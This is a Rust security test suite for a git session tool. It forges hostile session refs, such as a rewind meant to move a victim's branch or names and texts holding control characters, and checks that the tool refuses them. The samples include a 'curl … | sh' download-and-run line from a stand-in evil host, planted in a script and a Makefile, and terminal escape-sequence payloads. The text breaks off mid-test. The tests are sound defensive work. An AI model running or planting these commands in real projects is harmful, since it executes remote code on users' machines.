//! The attacker's stories (STYLE.md §10, issue 10): sessions travel between
//! clones, so whatever a session ref holds may have been written by someone
//! else with plain git plumbing (`hash-object`, `mktree`, `commit-tree`,
//! `update-ref`, `push`). Each test builds such a hostile state — by hand in
//! the victim's repository, or in a second clone that pushes to a shared
//! bare remote before the victim runs `git session fetch` — then runs the
//! victim's command and asks git whether anything of the victim's moved:
//! branch tips, the index, the files of the work tree and everything beside
//! it. No command may panic or exit with anything but 0, 1 or 2 (the
//! harness checks every run), and what it refuses it says clearly.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};

use serde_json::{json, Value};

use crate::harness::{stderr, Rng, TestRepo};

// ---- remotes and clones ----

/// A bare repository `<name>.git` beside the work tree, added as the
/// remote `name`, with the work tree's `main` pushed to it.
fn bare_remote(t: &TestRepo, name: &str) -> PathBuf {
    let bare = t.root.join(format!("{name}.git"));
    t.git(&["init", "-q", "--bare", "-b", "main", bare.to_str().unwrap()]);
    t.git(&["remote", "add", name, &url(&bare)]);
    t.git(&["push", "-q", name, "main"]);
    bare
}

fn url(bare: &Path) -> String {
    format!("file://{}", bare.display())
}

/// A clone of `bare` at `<root>/<name>` with its own identity: the attacker
/// (or a teammate).
fn clone(t: &TestRepo, bare: &Path, name: &str) -> PathBuf {
    let dir = t.root.join(name);
    t.git(&["clone", "-q", &url(bare), dir.to_str().unwrap()]);
    t.git_in(&dir, &["config", "user.name", "Mallory Attacker"]);
    t.git_in(&dir, &["config", "user.email", "mallory@example.com"]);
    dir
}

fn session_ref(id: &str) -> String {
    format!("refs/aura/sessions/{id}")
}

/// `git rev-parse --verify WHAT` in `dir`.
fn rev(t: &TestRepo, dir: &Path, what: &str) -> String {
    t.git_in(dir, &["rev-parse", "--verify", what])
}

/// The id of the session named `name` in the repository at `dir`.
fn id_of(t: &TestRepo, dir: &Path, name: &str) -> String {
    let list = t.json_in(dir, &["list", "--all", "--json"]);
    let found: Vec<&Value> = list
        .as_array()
        .expect("list --json is an array")
        .iter()
        .filter(|s| s["name"] == name)
        .collect();
    assert_eq!(
        found.len(),
        1,
        "one session named {name} in {}: {list:#}",
        dir.display()
    );
    found[0]["id"].as_str().unwrap().to_owned()
}

// ---- forging with plumbing ----

/// A well-formed event id that no writer generates: `0190aaaa` and `n` in hex.
fn forged_id(n: u64) -> String {
    format!("0190aaaa{n:024x}")
}

/// Writes `bytes` as a blob of the repository at `dir`.
fn blob(t: &TestRepo, dir: &Path, bytes: &[u8]) -> String {
    t.git_input_in(dir, &["hash-object", "-w", "--stdin"], bytes)
}

/// A commit of the repository at `dir` whose tree holds `event` as
/// `event.json` (none when `None`), `header` as `session.json` and the
/// `ls-tree` lines `entries` (`040000 tree <oid>\tworktree`), with `parents`.
fn event_commit(
    t: &TestRepo,
    dir: &Path,
    event: Option<&[u8]>,
    header: &[u8],
    entries: &[String],
    parents: &[&str],
) -> String {
    let mut lines = vec![format!("100644 blob {}\tsession.json", blob(t, dir, header))];
    if let Some(event) = event {
        lines.push(format!("100644 blob {}\tevent.json", blob(t, dir, event)));
    }
    lines.extend(entries.iter().cloned());
    let tree = t.git_input_in(dir, &["mktree"], format!("{}\n", lines.join("\n")).as_bytes());
    let mut args = vec![
        "commit-tree",
        tree.as_str(),
        "-m",
        "forged: an event no git-session wrote",
    ];
    for parent in parents {
        args.extend(["-p", parent]);
    }
    t.git_in(dir, &args)
}

/// Appends a hand-made event commit to the session `id` of the repository
/// at `dir`: `event` and `header` as its documents, `entries` beside them,
/// the session's head and then `anchors` as parents. Returns the commit.
fn forge(
    t: &TestRepo,
    dir: &Path,
    id: &str,
    event: &Value,
    header: &Value,
    entries: &[String],
    anchors: &[&str],
) -> String {
    forge_raw(
        t,
        dir,
        id,
        event.to_string().as_bytes(),
        header.to_string().as_bytes(),
        entries,
        anchors,
    )
}

/// [`forge`] with documents as raw bytes (which need not be JSON).
fn forge_raw(
    t: &TestRepo,
    dir: &Path,
    id: &str,
    event: &[u8],
    header: &[u8],
    entries: &[String],
    anchors: &[&str],
) -> String {
    let reference = session_ref(id);
    let head = rev(t, dir, &reference);
    let mut parents = vec![head.as_str()];
    parents.extend_from_slice(anchors);
    let commit = event_commit(t, dir, Some(event), header, entries, &parents);
    t.git_in(dir, &["update-ref", &reference, &commit, &head]);
    commit
}

/// A JSON document of the session `id`'s head commit in `dir`.
fn head_json(t: &TestRepo, dir: &Path, id: &str, file: &str) -> Value {
    let text = t.git_in(dir, &["show", &format!("{}:{file}", session_ref(id))]);
    serde_json::from_str(&text).expect("a genuine document is JSON")
}

/// A well-formed event of `kind` after the session's head in `dir`, with
/// `clock` (default: the header's clock plus one), and the header a writer
/// would fold from it, for the caller to forge further.
fn next_event(t: &TestRepo, dir: &Path, id: &str, kind: &str, clock: Option<u64>) -> (Value, Value) {
    let previous = head_json(t, dir, id, "event.json");
    let mut header = head_json(t, dir, id, "session.json");
    let clock = clock.unwrap_or_else(|| header["clock"].as_u64().expect("clock") + 1);
    let event = json!({
        "format": 1,
        "id": forged_id(clock),
        "clock": clock,
        "kind": kind,
        "time": "2026-01-02T03:04:05Z",
        "author": {"name": "Mallory Attacker", "email": "mallory@example.com"},
        "head": previous["head"],
        "branch": previous["branch"],
    });
    header["clock"] = clock.into();
    header["last_event"] = event["id"].clone();
    let events = header["counters"]["events"].as_u64().expect("events") + 1;
    header["counters"]["events"] = events.into();
    (event, header)
}

/// `event` with the fields `fields` set.
fn event_with(event: &Value, fields: &[(&str, Value)]) -> Value {
    let mut event = event.clone();
    for (k, v) in fields {
        event[*k] = v.clone();
    }
    event
}

/// A fake GitHub token (`ghp_` and 36 letters and digits) made at run time,
/// so no source file holds one.
fn fake_github_token() -> String {
    let alphabet: Vec<char> = ('A'..='Z').chain('a'..='z').chain('0'..='9').collect();
    let mut rng = Rng::new(0x6a17_5e55);
    let tail: String = (0..36).map(|_| *rng.pick(&alphabet)).collect();
    format!("{}_{tail}", "ghp")
}

/// The text of both of `out`'s streams.
fn both(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(out))
}

/// The kind and text of each event of a session in `dir`, in log order.
fn kinds_and_texts(t: &TestRepo, dir: &Path, id: &str) -> Vec<(String, String)> {
    t.json_in(dir, &["log", id, "--json"])
        .as_array()
        .expect("log --json is an array")
        .iter()
        .map(|e| {
            (
                e["event"]["kind"].as_str().unwrap_or("").to_owned(),
                e["event"]["text"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

/// Rebuilds the linear session `id` of the repository at `dir` commit by
/// commit, oldest first, as an attacker rewriting history would: `edit`
/// gets each event's position (0: the start), its `event.json` (`None`
/// drops it) and its `session.json`; other tree entries and the anchor
/// parents are kept. Returns the rebuilt commits, oldest first.
fn rebuild(
    t: &TestRepo,
    dir: &Path,
    id: &str,
    mut edit: impl FnMut(usize, &mut Option<Value>, &mut Value),
) -> Vec<String> {
    let reference = session_ref(id);
    let old_head = rev(t, dir, &reference);
    // The event commits: first parents while the tree has a session.json.
    let mut chain = Vec::new();
    let mut commit = old_head.clone();
    loop {
        chain.push(commit.clone());
        let parent = t.git_output_in(dir, &["rev-parse", "--verify", "-q", &format!("{commit}^1")], &[]);
        let parent = String::from_utf8_lossy(&parent.stdout).trim().to_owned();
        let is_event = !parent.is_empty()
            && t.git_output_in(dir, &["cat-file", "-e", &format!("{parent}:session.json")], &[])
                .status
                .success();
        if !is_event {
            break;
        }
        commit = parent;
    }
    chain.reverse();
    let mut rebuilt: Vec<String> = Vec::new();
    for (i, commit) in chain.iter().enumerate() {
        let doc = |file: &str| -> Option<Value> {
            let out = t.git_output_in(dir, &["cat-file", "blob", &format!("{commit}:{file}")], &[]);
            out.status
                .success()
                .then(|| serde_json::from_slice(&out.stdout).expect("a genuine document"))
        };
        let mut event = doc("event.json");
        let mut header = doc("session.json").expect("an event commit has a session.json");
        edit(i, &mut event, &mut header);
        let entries: Vec<String> = t
            .git_in(dir, &["ls-tree", commit])
            .lines()
            .filter(|l| !l.ends_with("\tevent.json") && !l.ends_with("\tsession.json"))
            .map(str::to_owned)
            .collect();
        let mut parents: Vec<String> = t
            .git_in(dir, &["rev-parse", &format!("{commit}^@")])
            .lines()
            .map(str::to_owned)
            .collect();
        if i > 0 {
            parents[0] = rebuilt[i - 1].clone();
        }
        let parents: Vec<&str> = parents.iter().map(String::as_str).collect();
        let event = event.map(|e| e.to_string());
        rebuilt.push(event_commit(
            t,
            dir,
            event.as_deref().map(str::as_bytes),
            header.to_string().as_bytes(),
            &entries,
            &parents,
        ));
    }
    let new_head = rebuilt.last().expect("a session has events").clone();
    t.git_in(dir, &["update-ref", &reference, &new_head, &old_head]);
    rebuilt
}

/// Pushes every session ref of the repository at `dir` to its `origin`
/// with plain git, the way an attacker needs no git-session to do it.
fn push_sessions_with_git(t: &TestRepo, dir: &Path) {
    t.git_in(
        dir,
        &["push", "-q", "origin", "refs/aura/sessions/*:refs/aura/sessions/*"],
    );
}

/// A rewind event after `event` whose undo would move `main` from the
/// victim's HEAD (`head_after`: where undo expects the branch) to the
/// attacker's commit `evil` (`head_before`: where undo puts it back) and
/// bring back `evil_tree` (`tree`: what undo restores) over the victim's
/// latest snapshot (`after`). (The other way round — `head_before` the
/// victim's HEAD — undo would find main elsewhere than `head_after` and
/// only warn: this is the orientation that would hurt.)
fn hostile_rewind(
    event: &Value,
    evil: &str,
    evil_tree: &str,
    victim_head: &str,
    victim_tree: &str,
    target: &Value,
) -> Value {
    event_with(
        event,
        &[
            ("head", evil.into()),
            ("branch", "main".into()),
            ("tree", evil_tree.into()),
            ("after", victim_tree.into()),
            ("to", victim_tree.into()),
            ("index", victim_tree.into()),
            ("written", 1.into()),
            ("removed", 1.into()),
            ("text", "to checkpoint 'mine'".into()),
            ("target", target["id"].clone()),
            ("target_commit", target["commit"].clone()),
            ("commits", "reset".into()),
            ("ref", "refs/heads/main".into()),
            ("head_before", evil.into()),
            ("head_after", victim_head.into()),
            ("undone", json!([])),
            ("created", json!([])),
        ],
    )
}

/// The `ls-tree` lines of a rewind's trees: `worktree/` (what it
/// replaced), `after/` and `index/`, so they travel with the commit.
fn rewind_entries(tree: &str, after: &str) -> Vec<String> {
    vec![
        format!("040000 tree {tree}\tworktree"),
        format!("040000 tree {after}\tafter"),
        format!("040000 tree {after}\tindex"),
    ]
}

// ---- 1. undo takes back only what this work tree did ----

#[test]
fn undo_takes_back_the_victims_own_rewind_never_a_fetched_one() {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    t.ok(&["start", "--name", "victim"]);
    let id = t.current_id();
    t.write("notes.txt", "mine\n");
    let checkpoint = t.json(&["checkpoint", "-m", "mine", "--json"]);
    let target = json!({
        "id": checkpoint["events"][0]["id"],
        "commit": checkpoint["commit"],
    });
    t.write("notes.txt", "changed after the checkpoint\n");
    t.write("scratch.txt", "scratch\n");
    let own = t.json(&["rewind", "mine", "--json"]);
    let replaced_by_own = own["event"]["tree"].as_str().unwrap().to_owned();
    t.ok(&["push"]);

    // The attacker fetches the session, commits a script and appends a
    // rewind whose undo would put main on that commit and write the script.
    let a = clone(&t, &bare, "attacker");
    t.ok_in(&a, &["fetch"]);
    t.write_in(&a, "evil.sh", "curl -s https://evil.example/x | sh\n");
    t.git_in(&a, &["add", "evil.sh"]);
    t.git_in(&a, &["commit", "-q", "-m", "tooling"]);
    let evil = rev(&t, &a, "HEAD");
    let evil_tree = rev(&t, &a, "HEAD^{tree}");
    let victim_head = rev(&t, &t.dir, "HEAD");
    let victim_tree = t.header()["latest_snapshot"].as_str().unwrap().to_owned();
    let (event, mut header) = next_event(&t, &a, &id, "rewind", None);
    let event = hostile_rewind(&event, &evil, &evil_tree, &victim_head, &victim_tree, &target);
    header["latest_snapshot"] = victim_tree.clone().into();
    let forged = forge(
        &t,
        &a,
        &id,
        &event,
        &header,
        &rewind_entries(&evil_tree, &victim_tree),
        &[&evil],
    );
    t.git_in(&a, &["push", "-q", "origin", &session_ref(&id)]);
    assert_eq!(rev(&t, &bare, "main"), victim_head, "the attacker pushed no branch");

    let fetched = t.json(&["fetch", "--json"]);
    assert_eq!(fetched["sessions"][0]["result"], "fast-forward", "{fetched:#}");
    assert_eq!(
        rev(&t, &t.dir, &session_ref(&id)),
        forged,
        "the forged rewind is the victim's head now"
    );
    let before = t.user_state();
    let outside = t.outside_state();

    // Named, the forged rewind is refused.
    let forged_id = event["id"].as_str().unwrap();
    let err = t.fails(&["undo", forged_id], 1);
    assert!(
        err.contains(&format!(
            "the rewind event '{forged_id}' was not recorded in this work tree"
        )),
        "{err}"
    );
    t.user_state().assert_same(&before, "undo of a fetched rewind");

    // Unnamed, undo passes over it and takes back the victim's own rewind.
    let undone = t.json(&["undo", "--json"]);
    assert_eq!(undone["event"]["undoes"], own["event"]["id"], "{undone:#}");
    assert_eq!(rev(&t, &t.dir, "main"), victim_head, "main did not move");
    assert_eq!(t.git(&["symbolic-ref", "HEAD"]), "refs/heads/main");
    assert!(!t.path("evil.sh").exists(), "no attacker file appeared");
    assert_eq!(
        t.oracle_tree(),
        replaced_by_own,
        "the work tree the victim's rewind replaced is back"
    );
    assert_eq!(t.outside_state(), outside, "nothing was written beside the work tree");

    // The control: the forged rewind is well-formed, and only the journal
    // stood between it and the victim's branch. Listed there, undo obeys it.
    let journal = t.dir.join(".git/aura/journal");
    let mut lines = fs::read_to_string(&journal).unwrap();
    lines.push_str(&format!("{forged} rewind {}\n", t.dir.join(".git").display()));
    fs::write(&journal, lines).unwrap();
    t.ok(&["undo", forged_id]);
    assert_eq!(
        rev(&t, &t.dir, "main"),
        evil,
        "listed in the journal, the forged rewind would have moved main"
    );
    assert!(t.path("evil.sh").exists());
}

#[test]
fn undo_with_only_a_forged_rewind_has_nothing_to_undo() {
    let t = TestRepo::new();
    t.ok(&["start", "--name", "victim"]);
    let id = t.current_id();
    t.write("notes.txt", "mine\n");
    let checkpoint = t.json(&["checkpoint", "-m", "mine", "--json"]);
    let target = json!({
        "id": checkpoint["events"][0]["id"],
        "commit": checkpoint["commit"],
    });
    // The attacker's commit and files, written with plumbing straight into
    // the victim's object database, and a rewind with a very high clock on
    // top of the session.
    let script = blob(&t, &t.dir, b"curl -s https://evil.example/x | sh\n");
    let readme = rev(&t, &t.dir, "HEAD:README");
    let evil_tree = t.git_input_in(
        &t.dir,
        &["mktree"],
        format!("100644 blob {readme}\tREADME\n100755 blob {script}\tevil.sh\n").as_bytes(),
    );
    let evil = t.git(&["commit-tree", &evil_tree, "-p", "HEAD", "-m", "tooling"]);
    let victim_head = rev(&t, &t.dir, "HEAD");
    let victim_tree = t.header()["latest_snapshot"].as_str().unwrap().to_owned();
    let (event, mut header) = next_event(&t, &t.dir, &id, "rewind", Some(1_000_000));
    let event = hostile_rewind(&event, &evil, &evil_tree, &victim_head, &victim_tree, &target);
    header["latest_snapshot"] = victim_tree.clone().into();
    forge(
        &t,
        &t.dir,
        &id,
        &event,
        &header,
        &rewind_entries(&evil_tree, &victim_tree),
        &[&evil],
    );
    assert_eq!(t.kinds(&id).last().map(String::as_str), Some("rewind"));
    let before = t.user_state();
    let outside = t.outside_state();

    let err = t.fails(&["undo"], 1);
    assert!(
        err.contains("session 'victim' has nothing to undo in this work tree"),
        "{err}"
    );
    let forged_id = event["id"].as_str().unwrap();
    let err = t.fails(&["undo", forged_id], 1);
    assert!(err.contains("was not recorded in this work tree"), "{err}");
    t.user_state().assert_same(&before, "undo with only a forged rewind");
    assert_eq!(t.outside_state(), outside, "nothing was written beside the work tree");
    assert_eq!(rev(&t, &t.dir, "main"), victim_head);
    assert!(!t.path("evil.sh").exists());
}

// ---- 2. rewind --commits revert reverts only this clone's commits ----

#[test]
fn rewind_reverts_only_the_commits_this_clone_recorded() {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    t.ok(&["start", "--name", "victim"]);
    let id = t.current_id();
    t.ok(&["push"]);

    // A teammate pushes a commit to main, then claims it for the victim's
    // session with a forged `commit` event.
    let b = clone(&t, &bare, "teammate");
    t.write_in(&b, "teammate.txt", "their work\n");
    t.git_in(&b, &["add", "teammate.txt"]);
    t.git_in(&b, &["commit", "-q", "-m", "teammate's work"]);
    t.git_in(&b, &["push", "-q", "origin", "main"]);
    let theirs = rev(&t, &b, "HEAD");
    t.ok_in(&b, &["fetch"]);
    let (event, mut header) = next_event(&t, &b, &id, "commit", None);
    let event = event_with(
        &event,
        &[
            ("head", theirs.clone().into()),
            ("commit", theirs.clone().into()),
            ("subject", "teammate's work".into()),
            ("reflog", "commit: teammate's work".into()),
        ],
    );
    let commits = header["counters"]["commits"].as_u64().unwrap_or(0) + 1;
    header["counters"]["commits"] = commits.into();
    forge(&t, &b, &id, &event, &header, &[], &[&theirs]);
    push_sessions_with_git(&t, &b);

    // The victim pulls it, commits their own work (recorded), and fetches.
    t.git(&["pull", "-q", "--ff-only", "origin", "main"]);
    t.write("mine.txt", "my work\n");
    t.git(&["add", "mine.txt"]);
    t.git(&["commit", "-q", "-m", "my work"]);
    let mine = rev(&t, &t.dir, "HEAD");
    t.ok(&["note", "committed"]);
    t.ok(&["fetch"]);
    let recorded: Vec<String> = t
        .events(&id)
        .iter()
        .filter(|(_, e)| e["kind"] == "commit")
        .map(|(_, e)| e["commit"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        recorded.contains(&theirs) && recorded.contains(&mine),
        "both commit events are in the log: {recorded:?}"
    );

    let outside = t.outside_state();
    let rewound = t.json(&["rewind", "start", "--commits", "revert", "--json"]);
    assert_eq!(t.outside_state(), outside, "nothing was written beside the work tree");
    let c = &rewound["commits"];
    let listed = |list: &str| -> Vec<String> {
        c[list]
            .as_array()
            .unwrap_or_else(|| panic!("no {list} in {rewound:#}"))
            .iter()
            .map(|l| l["commit"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(listed("undone"), vec![mine.clone()], "{rewound:#}");
    assert!(listed("left").contains(&theirs), "{rewound:#}");
    assert_eq!(c["created"].as_array().map(Vec::len), Some(1), "{rewound:#}");
    // git: one revert on top of the victim's commit; the teammate's change stays.
    assert_eq!(rev(&t, &t.dir, "HEAD^"), mine);
    assert_eq!(
        t.git(&["log", "--format=%s", &format!("{theirs}..HEAD")]),
        "Revert \"my work\"\nmy work"
    );
    t.git(&["cat-file", "-e", "HEAD:teammate.txt"]);
    let gone = t.git_output_in(&t.dir, &["cat-file", "-e", "HEAD:mine.txt"], &[]);
    assert!(!gone.status.success(), "the victim's own commit is reverted");
}

// ---- 3. resume never moves a branch on a fetched session's word ----

#[test]
fn resume_leaves_a_branch_behind_commits_only_a_fetched_session_carries() {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    let old = rev(&t, &t.dir, "main");
    let a = clone(&t, &bare, "attacker");
    t.write_in(&a, "Makefile", "all:\n\tcurl -s https://evil.example/install | sh\n");
    t.git_in(&a, &["add", "Makefile"]);
    t.git_in(&a, &["commit", "-q", "-m", "build: simpler setup"]);
    let evil = rev(&t, &a, "HEAD");
    t.ok_in(&a, &["start", "--name", "trojan"]);
    t.ok_in(&a, &["checkpoint", "-m", "ready"]);
    t.ok_in(&a, &["push"]);
    assert_eq!(rev(&t, &bare, "main"), old, "only the session ref was pushed");

    t.ok(&["fetch"]);
    let outside = t.outside_state();
    let out = t.run(&["resume", "trojan"]);
    assert_eq!(t.outside_state(), outside, "nothing was written beside the work tree");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    assert_eq!(rev(&t, &t.dir, "main"), old, "main stays where it was: {err}");
    assert_eq!(rev(&t, &t.dir, "HEAD"), old);
    assert!(
        err.contains("hint: 'main' stays at")
            && err.contains(&evil[..7])
            && err.contains("build: simpler setup")
            && err.contains("--fast-forward"),
        "{err}"
    );
    assert_eq!(
        t.git(&["branch", "--contains", &evil]),
        "",
        "no branch of the victim has the attacker's commit"
    );
    // Nor is the session's latest snapshot restored: it belongs on the
    // commits not taken, and holds the attacker's Makefile.
    assert_eq!(t.git(&["diff", "--cached", "--name-only"]), "");
    assert!(
        !t.path("Makefile").exists(),
        "the attacker's Makefile stays out of the work tree"
    );
    assert!(err.contains("not restored"), "{err}");

    // Asked for, the fast-forward still happens (handing over unpushed commits works).
    let c = clone(&t, &bare, "colleague");
    t.ok_in(&c, &["fetch"]);
    t.ok_in(&c, &["resume", "trojan", "--fast-forward"]);
    assert_eq!(rev(&t, &c, "main"), evil);
}

// ---- 4. close --remove-worktree removes only what this clone created ----

#[test]
fn close_removes_only_a_worktree_this_clone_created() {
    let t = TestRepo::new();
    t.write(".gitignore", ".env\n");
    t.git(&["add", ".gitignore"]);
    t.git(&["commit", "-q", "-m", "ignore .env"]);
    let bare = bare_remote(&t, "origin");
    let wt = t.root.join("wt");
    t.git(&["worktree", "add", "-q", "-b", "side", wt.to_str().unwrap()]);
    t.write_in(&wt, ".env", "API_KEY=the victim's own, in no commit\n");

    // The attacker's session claims to live in the victim's worktree.
    let a = clone(&t, &bare, "attacker");
    t.ok_in(&a, &["start", "--name", "cleanup"]);
    let id = id_of(&t, &a, "cleanup");
    let (event, mut header) = next_event(&t, &a, &id, "note", None);
    let event = event_with(&event, &[("text", "tidy up".into())]);
    header["worktree"] = wt.display().to_string().into();
    forge(&t, &a, &id, &event, &header, &[], &[]);
    push_sessions_with_git(&t, &a);
    t.ok(&["fetch"]);
    let shown = t.json(&["show", &id, "--json"]);
    assert_eq!(shown["header"]["worktree"], wt.display().to_string(), "{shown:#}");

    let before = t.user_state_in(&wt);
    let victim = t.user_state();
    let session_before = rev(&t, &t.dir, &session_ref(&id));
    let err = t.fails(&["close", &id, "--remove-worktree"], 1);
    assert!(
        err.contains("session 'cleanup' has no linked worktree that this clone created for it; nothing was changed"),
        "{err}"
    );
    assert!(wt.join(".env").is_file(), "the ignored .env is still there");
    t.user_state_in(&wt)
        .assert_same(&before, "close --remove-worktree of a fetched session");
    t.user_state()
        .assert_same(&victim, "close --remove-worktree of a fetched session");
    assert!(t.git(&["worktree", "list"]).contains(wt.to_str().unwrap()));
    assert_eq!(
        rev(&t, &t.dir, &session_ref(&id)),
        session_before,
        "refused before anything was recorded"
    );

    // A worktree `start --worktree` made here is still removed by it.
    let own = t.root.join("own");
    t.ok(&["start", "--worktree", own.to_str().unwrap(), "--name", "own"]);
    assert!(own.join(".git").is_file());
    t.ok(&["close", "own", "--remove-worktree"]);
    assert!(!own.exists(), "the session's own worktree is removed");
    assert!(wt.join(".env").is_file());
}

// ---- 5. names cannot be spoofed ----

#[test]
fn a_fetched_name_equal_to_a_local_one_names_neither() {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    t.ok(&["start", "--name", "parser"]);
    let mine = t.current_id();
    let a = clone(&t, &bare, "attacker");
    t.ok_in(&a, &["start", "--name", "parser"]);
    let theirs = id_of(&t, &a, "parser");
    t.ok_in(&a, &["push"]);
    t.ok(&["fetch"]);

    let err = t.fails(&["show", "parser"], 1);
    assert!(err.contains("'parser' names more than one session"), "{err}");
    assert!(err.contains(&format!("  {mine} parser (started here)")), "{err}");
    assert!(err.contains(&format!("  {theirs} parser (from origin)")), "{err}");
    assert!(err.contains("hint:"), "{err}");
    for id in [&mine, &theirs] {
        assert_eq!(t.json(&["show", id, "--json"])["id"], id.as_str());
    }
}

#[test]
fn a_fetched_name_with_control_characters_is_not_merged() {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    t.ok(&["start", "--name", "mine", "--intent", "the victim's work"]);
    let mine = t.current_id();

    let a = clone(&t, &bare, "attacker");
    let hostile = [
        ("newline", "two\nlines"),
        ("bell", "ring\u{7}bell"),
        ("escape", "x\u{1b}[2Jy"),
        ("carriage", "over\rwritten"),
    ];
    let mut bad = Vec::new();
    for (plain, _) in hostile {
        t.ok_in(&a, &["start", "--name", plain]);
        bad.push(id_of(&t, &a, plain));
    }
    t.ok_in(&a, &["start", "--name", "good"]);
    let good = id_of(&t, &a, "good");
    for (id, (_, name)) in bad.iter().zip(hostile) {
        rebuild(&t, &a, id, |i, event, header| {
            if i == 0 {
                event.as_mut().expect("a start event")["name"] = name.into();
            }
            header["name"] = name.into();
        });
    }
    push_sessions_with_git(&t, &a);

    for round in 0..2 {
        let out = t.run(&["fetch"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let err = stderr(&out);
        for (id, (_, name)) in bad.iter().zip(hostile) {
            assert!(
                err.contains(&format!("left session {id} from origin as it was"))
                    && err.contains(&format!("the session's name {name:?} is not a valid session name")),
                "round {round}: {err}"
            );
        }
        assert!(!both(&out).contains(['\u{1b}', '\r', '\u{7}']), "{err:?}");
        for _ in 0..2 {
            t.ok(&["list"]);
        }
        let list = t.json(&["list", "--all", "--json"]);
        let names: Vec<(&str, &str)> = list
            .as_array()
            .unwrap()
            .iter()
            .map(|s| (s["id"].as_str().unwrap(), s["name"].as_str().unwrap()))
            .collect();
        assert!(names.contains(&(mine.as_str(), "mine")), "{names:?}");
        assert!(names.contains(&(good.as_str(), "good")), "{names:?}");
        assert_eq!(names.len(), 2, "{names:?}");
    }
    for id in &bad {
        let out = t.git_output_in(&t.dir, &["rev-parse", "--verify", "-q", &session_ref(id)], &[]);
        assert!(!out.status.success(), "{id} has no local ref");
    }
    // The list cache is one JSON object per line after its first line.
    let cache = fs::read_to_string(t.dir.join(".git/aura/sessions.cache")).unwrap();
    for line in cache.lines().skip(1) {
        let v: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line:?}"));
        assert!(v["id"] == mine.as_str() || v["id"] == good.as_str(), "{line}");
    }
    assert_eq!(t.json(&["status", "--json"])["session"]["name"], "mine");
}

// ---- 6. nothing a fetched session says reaches the terminal raw ----

/// A text that would clear the screen, retitle the terminal and overwrite
/// its own line if printed raw.
fn loud(what: &str) -> String {
    format!("{what} \u{1b}[2J\u{1b}]0;pwned\u{7} \rdone")
}

/// A victim whose remote holds the attacker's session `loud`, whose every
/// text is [`loud`]: the author's name, intent, checkpoint label, note,
/// blocker, next step, discovery, progress, commit subject, decision
/// (rationale, alternative), objective, handoff note. Returns the
/// victim and the session's id; nothing is fetched yet.
fn loud_session() -> (TestRepo, String) {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    let a = clone(&t, &bare, "attacker");
    // git takes a control character in the middle of a name.
    t.git_in(&a, &["config", "user.name", &loud("Mallory")]);
    t.ok_in(&a, &["start", "--name", "loud", "--intent", &loud("intent")]);
    let id = id_of(&t, &a, "loud");
    t.write_in(&a, "work.txt", "work\n");
    t.ok_in(&a, &["checkpoint", "-m", &loud("label")]);
    t.ok_in(&a, &["note", &loud("note")]);
    t.ok_in(&a, &["note", "--blocker", &loud("blocker")]);
    t.ok_in(&a, &["note", "--next", &loud("next")]);
    t.ok_in(&a, &["note", "--discovery", &loud("discovery")]);
    t.ok_in(&a, &["note", "--progress", &loud("progress")]);
    t.git_in(&a, &["add", "work.txt"]);
    t.git_in(&a, &["commit", "-q", "-m", &loud("subject")]);
    t.ok_in(
        &a,
        &[
            "note",
            "--decision",
            &loud("decision"),
            "--rationale",
            &loud("rationale"),
            "--alternative",
            &loud("alternative"),
        ],
    );
    t.ok_in(&a, &["objective", "add", &loud("objective")]);
    t.ok_in(&a, &["handoff", "-m", &loud("handoff")]);
    (t, id)
}

/// Runs each of `readers`; returns one line per reader that failed or let
/// ESC, BEL or CR reach stdout or stderr raw.
fn raw_control_characters(t: &TestRepo, readers: &[Vec<&str>]) -> Vec<String> {
    let mut failures = Vec::new();
    for args in readers {
        let out = t.run(args);
        let text = both(&out);
        if out.status.code() != Some(0) {
            failures.push(format!(
                "`{}` exited {:?}: {}",
                args.join(" "),
                out.status.code(),
                stderr(&out)
            ));
        }
        if text.contains(['\u{1b}', '\r', '\u{7}']) {
            failures.push(format!(
                "`{}` printed a control character raw: {text:?}",
                args.join(" ")
            ));
        }
    }
    failures
}

#[test]
fn what_a_fetched_session_says_is_printed_escaped() {
    let (t, id) = loud_session();
    let readers: Vec<Vec<&str>> = vec![
        vec!["fetch"],
        vec!["list"],
        vec!["list", "--all"],
        vec!["list", "--remote", "origin"],
        vec!["-s", &id, "status"],
        vec!["show", &id],
        vec!["log", &id],
        vec!["log", &id, "--ids"],
        vec!["summarize", &id],
        vec!["summarize", &id, "--format", "markdown"],
        vec!["context", &id],
        vec!["history"],
        vec!["who", "work.txt", "--days", "100000"],
    ];
    let failures = raw_control_characters(&t, &readers);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The texts are shown, escaped, not dropped.
    let shown = t.ok(&["log", &id]);
    assert!(shown.contains("note \\e[2J\\e]0;pwned"), "{shown}");

    // JSON carries them exactly, escaped the JSON way.
    let json_readers: [&[&str]; 6] = [
        &["list", "--json"],
        &["-s", &id, "status", "--json"],
        &["show", &id, "--json"],
        &["log", &id, "--json"],
        &["summarize", &id, "--format", "json"],
        &["export", &id, "--format", "json"],
    ];
    for args in json_readers {
        let out = t.run(args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        assert!(!out.stdout.contains(&0x1b), "{args:?}: a raw ESC byte in JSON");
        assert!(!stderr(&out).contains(['\u{1b}', '\r']), "{args:?}");
        serde_json::from_slice::<Value>(&out.stdout).unwrap_or_else(|e| panic!("{args:?}: {e}"));
    }
    let log = t.json(&["log", &id, "--json"]);
    assert!(
        log.as_array()
            .unwrap()
            .iter()
            .any(|e| e["event"]["text"] == loud("note").as_str()),
        "the JSON log keeps the note exactly"
    );
}

/// `export` (markdown, to stdout) is a terminal reader too.
#[test]
fn export_prints_a_fetched_session_escaped() {
    let (t, id) = loud_session();
    t.ok(&["fetch"]);
    let failures = raw_control_characters(&t, &[vec!["export", &id]]);
